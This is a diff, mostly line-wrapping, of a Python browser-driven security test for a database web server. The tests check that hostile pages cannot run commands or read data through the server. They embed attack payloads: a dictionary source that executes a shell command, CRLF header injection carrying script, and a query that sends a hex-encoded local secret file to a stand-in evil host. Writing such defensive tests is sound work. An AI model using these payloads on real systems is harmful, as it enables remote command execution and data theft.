@@ -18,7 +18,9 @@ from starlette.types import Receive, Scope, Send
 from stepstream.common.web.server import WebServer
 from tests.security.store_kit import Store, store
 
-CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+CHROMIUM = (
+    shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+)
 FLAGS = [
     "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
     "--disable-component-update", "--disable-sync", "--host-resolver-rules=MAP evil.example 127.0.0.1",
@@ -57,7 +59,9 @@ def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
         pytest.skip("there is no Chromium on this machine")
     with api.sync_playwright() as driver:
         profile = tmp_path_factory.mktemp("profile")
-        with driver.chromium.launch_persistent_context(profile, executable_path=CHROMIUM, args=FLAGS, headless=True) as context:
+        with driver.chromium.launch_persistent_context(
+            profile, executable_path=CHROMIUM, args=FLAGS, headless=True
+        ) as context:
             yield context
 
 
@@ -81,27 +85,36 @@ def target(running: Store, user: str, **parameters: str) -> str:
     return f"{running.url}/?{urlencode({**parameters, 'user': user, 'password': running.secrets[user]})}"
 
 
-def test_a_page_runs_nothing_in_the_store_s_origin(browser: Any, running: Store, evil: Evil, tmp_path: Path) -> None:
+def test_a_page_runs_nothing_in_the_store_s_origin(
+    browser: Any, running: Store, evil: Evil, tmp_path: Path
+) -> None:
     """It goes to a URL whose answer would be a page with a script, in the store's own origin, and opens it in frames."""
     proof = tmp_path / "proof"
     dictionary = (
         f"CREATE DICTIONARY d (a String) PRIMARY KEY a SOURCE(EXECUTABLE(COMMAND 'id > {proof}; echo x' FORMAT 'TSV')) "
         "LAYOUT(COMPLEX_KEY_HASHED()) LIFETIME(0)"
     )
-    script = (
-        f"<script>fetch('/', {{method: 'POST', body: {dictionary!r}}}); fetch('{evil.url}/ran', {{mode: 'no-cors'}})</script>"
+    script = f"<script>fetch('/', {{method: 'POST', body: {dictionary!r}}}); fetch('{evil.url}/ran', {{mode: 'no-cors'}})</script>"
+    split = target(
+        running,
+        "writer",
+        query="SELECT 1",
+        query_id=f"x\r\nContent-Type: text/html\r\n\r\n{script}",
     )
-    split = target(running, "writer", query="SELECT 1", query_id=f"x\r\nContent-Type: text/html\r\n\r\n{script}")
-    shown = target(running, "writer", query=f"SELECT '{script.replace(chr(39), chr(34))}' FORMAT RawBLOB")
+    shown = target(
+        running, "writer", query=f"SELECT '{script.replace(chr(39), chr(34))}' FORMAT RawBLOB"
+    )
     page = browser.new_page()
     for url in (split, shown):
-        evil.page = (
-            f"<iframe src='{quote(url, safe=':/?&=%')}'></iframe><script>setTimeout(() => location = {url!r}, 300)</script>"
-        )
+        evil.page = f"<iframe src='{quote(url, safe=':/?&=%')}'></iframe><script>setTimeout(() => location = {url!r}, 300)</script>"
         page.goto(evil.url)
         page.wait_for_url(f"{running.url}/**", wait_until="commit")
         page.wait_for_load_state("networkidle")
-        assert "403" in page.content() or "denied" in page.content().lower() or "web pages" in page.content()
+        assert (
+            "403" in page.content()
+            or "denied" in page.content().lower()
+            or "web pages" in page.content()
+        )
     # Typed by hand the query is answered, and the browser offers to save it: it takes it for no page.
     with pytest.raises(Exception, match="Download is starting"):
         page.goto(shown)
@@ -111,13 +124,19 @@ def test_a_page_runs_nothing_in_the_store_s_origin(browser: Any, running: Store,
     assert running.value("SELECT count() FROM system.dictionaries") == "0"
 
 
-def test_a_page_reads_and_changes_nothing(browser: Any, running: Store, evil: Evil, tmp_path: Path) -> None:
+def test_a_page_reads_and_changes_nothing(
+    browser: Any, running: Store, evil: Evil, tmp_path: Path
+) -> None:
     """By images, scripts, styles, frames, forms, fetch and beacons, each by GET or by POST, with the writer's password."""
     secret = tmp_path / "secret"
     secret.write_text("the secret of the machine")
     leak = f"SELECT * FROM url(concat('{evil.leak}', hex(file('{secret}'))), CSV, 'x String')"
-    schema = target(running, "writer", query="SELECT 1 AS x FORMAT Protobuf", output_format_schema=str(secret))
-    create = target(running, "writer", query="CREATE TABLE pwned (a Int8) ENGINE = MergeTree ORDER BY a")
+    schema = target(
+        running, "writer", query="SELECT 1 AS x FORMAT Protobuf", output_format_schema=str(secret)
+    )
+    create = target(
+        running, "writer", query="CREATE TABLE pwned (a Int8) ENGINE = MergeTree ORDER BY a"
+    )
     reads = [target(running, "writer", query=leak), schema, create]
     tags = "".join(
         f"<img src='{one}'><script src='{one}'></script><link rel=stylesheet href='{one}'><iframe src='{one}'></iframe>"
